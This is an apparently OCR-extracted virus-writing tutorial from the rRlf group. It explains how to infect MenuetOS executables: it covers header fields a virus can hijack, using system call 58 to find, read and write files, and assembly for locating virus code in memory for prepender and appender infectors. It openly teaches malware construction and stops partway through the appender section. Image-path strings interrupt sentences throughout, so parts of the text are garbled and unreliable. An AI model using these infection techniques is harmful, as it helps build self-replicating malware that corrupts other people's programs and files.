MenuetOS infection    [by Second Part To Hell]


      ************                                      ***********
      ************           MenuetOS infection         ***********
      ************     by Second Part To Hell/[rRlf]    ***********
      ************                                      ***********


  0) Intro words

  1) File Format
       a) General information
       b) Application Structur
       c) Header Information

  2) System Calls
       a) General Information
       b) System Call 58

  3) Virus functions
       a) Find viruscode in memory
       b) Find files
       c) Directory entries
       d) Read files to memory
       e) Write memory to files

  4) Infection Type
       a) Prepender
       b) Appender

  5) Last words

  0) Intro words

  MenuetOS is a new and free Operating System with GUI (Graphical User Interface)
  and many network tools like a eMail program or a IRC client, which fits on one disk.
  The Operating System is fully assembler written and has a great documation, morethan that, it's open source. You can find the OS here:
  I got the idea of writing a virus for it, when I had the first contact with it:
  One boring day in a IRC-channel VxF talked about it, and joked about writing viruses
  for it. Well, that was the start of the whole story, and as I became bored of all
  that windows based virus, Ithought it would be a nice challenge for me. About five
  month after that contact the first virus (Menuet.Oxymoron) was finished. As I had
  to learn alot of it by myself, I want to share this information with you.
  And that's also the only purpose of this article.

  1) File Format

        a) General information

           MenuetOS first asks the userabout the start configuration. After that
           it loads the files (from disk or harddisk) to the memory. There the data
           is available at directory '/RAMDISK/1/xxx'. The primary harddisk of your
           computer is saved as '/HARDDISK/1/xxx'. That's a basic information, and
           most important for the following dream (writing a MenuetOS virus).

    b) Application Structur

           The MenuetOS-file has a simple structur. It just consists of two parts:
           The Header and the executeable code. It looks like that:

           ---          ---
           ---  HEADER  ---
           ---          ---

           ---          ---
           ---  EXECUTE ---
           ---   ABLE   ---
           ---          ---
           ---   CODE   ---
           ---          ---

          I will explain the header in the next part of the article. The executeable code
          contains your commands and your data, which must not be executed, therefor it
          will be intelligent if you write your data after the code, which means after theend of your application or after the jump to the host code.
          A very important information is, that every execution file are loaded at memory offset
          0x0 (org 0x0). It's important because we could calculate with the static header
          informations and not any calculting any relative offsets. In that case, for instance
          the EP of the current file in memory is here: dword [0xC] (will be explained in the
          next part).

       c) Header information

          The header is the most important part you have to think of when you want to write
          a virus for this Operating System. There are two parts of header: the extanted and
          the not-extanted one. The not-extanted header consists of 0x1C (=28) bytes, which
          are very important. The extanted header has 8 bytes more than the other one, so
          it's size is 0x24 (=36) bytes. After the header some programs store important data,
          which means, the end of the header is not directly the beginning of the Executeable
          Now I want to show you the Menuet's header, and explain the different parts and their
          use in a virus later on:

          * Offset *  Length   *  Name                  *
          * 00h    *  8 bytes  *  File ID               *
          * 08h    *  4 bytes  *  required OS           *
          * 0Ch    *  4 bytes  *  Entry Point           *
          * 10h    *  4 bytes  *  File length           *
          * 14h    *  4 bytes  *  Used memory           *
          * 18h    *  4 bytes  *  extanted header / esp *
          * 1Ch    *  4 bytes  *  Parameters*
          * 20h    *  4 bytes  *  Icon Information      *

          File ID:
                   This 2 dword tell the OS, that it's an executeable file.
                   The File ID should be 'MENUET00' or 'MENUET01'. I haven't
                   found any difference between these two ways.

          Required OS:
                   This double word tells the OS, whichversion of MenuetOS
                   it needs. Up to now (June 2004), Menuet exists in it's version
                   0.77. The dword of a program which just run at MenuetOS 0.77+
                   would contain the value '77'. But I have just seen two different
                   values: 1 and 38. Due to this, and the fact, that it's not
                   important for the file, we could use it as our virus sign.
                   Just overwrite this value with a number less than 77 (but not 1
                   or 38 :] ).

          Entry Point:
                   This is also a very important value for our virus. Here we
                   get the information where the file's code starts. This value
                   could be 0x1c, if it's no extanted header without data or much
                   bigger, if it contains alot of data. Anyway, this value is also
                   very important for finding the virus code in memory. If it's a
                   prepender, the virus is at EP or if it's an appender, this is the
                   value you could change, so that the virus runs first.

          File length:
                   This is the next important value. It's the size of the file, which
                   means: Headerlength+codelength. This value is generated when the
                   file is compiled. That means, if you add some bytes (the virus), the
                   value won't change, which is perfect for writing a virus. If you want
                   to write a prepender, you could store the first part of the host code
                   at that offset, or if you want to write an appender, you could add
                   your viruscode here.

          Used memory:
                   The doubleword is the amount of memory reserved by OS for the application.
                   As the virus also uses alotof memory (reading files, file rebuilding),
                   this is very important. You have to check if the value is bigger than
                   your required memory. If you infect a file using too few memory, the file
                   won't work anymore.

          Extanted Header / esp:
                   This part of the header tells us, if it uses an extanted header or not.
                   If the dword is 0x0, it doesn't use an extanted header. Otherwise it
                   uses one. In that case, the value is theoffset of the stack (esp). It's
                   not important for the file, because pop/push always works without that

          Parameters & Icon Information:
                   These values are important for the host file, but not for us, therefor
                   I won't explain it more exactly.

  2) System Calls

       a) General information

          System Calls are the only way how youcan communicate with the OS.
          Such a System call allow you to use general functions of the OS.
          To find information about that calls, you have to look at the sysfuncs.txt
          file included in the MenuetOS-package. There you can find the exact way
          of using every of the 66 (some of them aren't finished so far) calls.
          Generally a call looks like this:

          eax = function numbers
          ebx, ecx, edx, esi, edi = information for the call
          int 0x40 = System call

          An example - sysfuncs.txt contains this content:- - - - - - - - - -
          05 = DELAY X/100 SECS

              ebx delay in 1/100 secs
              ret: nothing changed
          - - - - - - - - - -

          If we want a 0.5 second delay in our program, we have to do it as the following
          code shows you:

          - - - - - - - - - -
          mov  eax, 5           ; Functionnumber: DELAY X/100 SECS
          mov  ebx, 50          ; 50/100 sec = 0.5 seconds
          int  0x40             ; System call
          - - - - - - - - - -

       b) System Call 58

          System Call 58 is the only important function for our virus.
          Information about Function 58 by sysfuncs.txt:- - - - - - - - - -
          58 = SYSTEM TREE ACCESS

               ebx    pointer to fileinfo block

               path examples:




               dd   0                    ; 0=READ    (delete/append)
               dd   0x0                  ; 512 block to read 0+
               dd   0x1                  ; blocks to read (/bytes to write/append)
               dd   0x20000              ; return data pointer
               dd   0x10000              ; work area for os - 16384 bytes
               db   '/RAMDISK/FIRST/KERNEL.ASM',0  ; ASCIIZ dir & filename



               dd   1                    ; 1=WRITE
               dd   0x0                  ; not used
               dd   10000                ; bytes to write
               dd   0x20000              ; source data pointer
               dd   0x10000              ; work area for os - 16384 bytes
               db   '/RAMDISK/FIRST/KERNEL.ASM',0  ; ASCIIZ dir & filename


               ; LBA


               dd   8                    ; 8=LBA read (/9=LBA write)
               dd   0x0                  ; 512 block to read (write)
               dd   0x1                  ; set to 1
               dd   0x20000              ; return data pointerdd   0x10000              ; work area for os (16384 bytes)
               dd   '/HARDDISK/SECOND',0 ; physical device ; ASCIIZ

                    ( or /rd/1/ )

                    LBA read must be enabled with setup

               NOTE: The asciiz in this context refers to the physical device and
                     not to logical one.
                     For hd: first=pri.master, second=pri.slave
                             third=sec.master, fourth=sec.slave



               dd   16                   ; 16=START APPLICATION
               dd   0x0                  ; nop
               dd   param                ; 0 or parameter area (ASCIIZ)
               dd   0x0                  ; nop
               dd   0x10000              ; work area for os - 16384 bytes
               db   '/HD/1/MENUET/APPS/FIRE',0  ; ASCIIZ dir & filename

               ret: eax = pid or 0xfffffff0+ for error
          - - - - - - - - - -

          This way we can find files, read file contents and write files, but this
          be explained later on.

  3) Virus functions

       a) Find viruscode in memory

          Finding the code of the virus in memory is very important for the virus,otherwise you can't infect other files. Now there are two ways to find
          the code, which depends on what kind of virus it is - a prepender or appender.
          (I don' think of EPO infectors so far).
          The easiest way to find the code is a call, and you pop your offset from the
          stack to a register. But a badthing at saving it in a register is, that you
          can't use that register anymore (because the offset must not be overwritten).
          Information about CALL by OPCODES2.HLP:

          - - - - - - - - - -
                  Pushes Instruction Pointer (and Code Segment for far calls) onto
                  stack and loads Instruction Pointer with the address of proc-name.
          - - - - - - - - - -

          If youcall a lable at the start of the virus, the stack contains the offset
          call. And that's the assembler source for this way:

          - - - - - - - - - -
                call    virus           ; Push current memory offset to stack
                pop     ecx             ; Pop current memory offset to ecx
                sub     ecx, 5          ; Get the startoffset of the viruscode in memory
                xchg    ebp, ecx        ; Move ecx to ebp <- NOTE: You must not pop ebp,
                                        ;                    otherwise the OS freezes.
          - - - - - - - - - -

          As I told you, there is another way to find the Virusstart-offset, I'll tell you now:
          Prepender: This type infects files before the real code = at the Entry Point.
                     As you knowfrom header-information that the Entry Point of the code
                     is at offset dword [0xC] and the application is loaded at org 0x0, we
                     can use the following code:

          - - - - - - - - - -
          mov   ebp, dword [0xC]        ; ebp = 0x0 + dword [0xC]
          - - - - - - - - - -

          Appender: The other type of viruses infects files behind the file. Now we know the
                    memory start of the file (org 0x0), and the filelength of the infected
                    file: dword [0x10]. So we can do the same thing again.

          - - - - - - - - - -
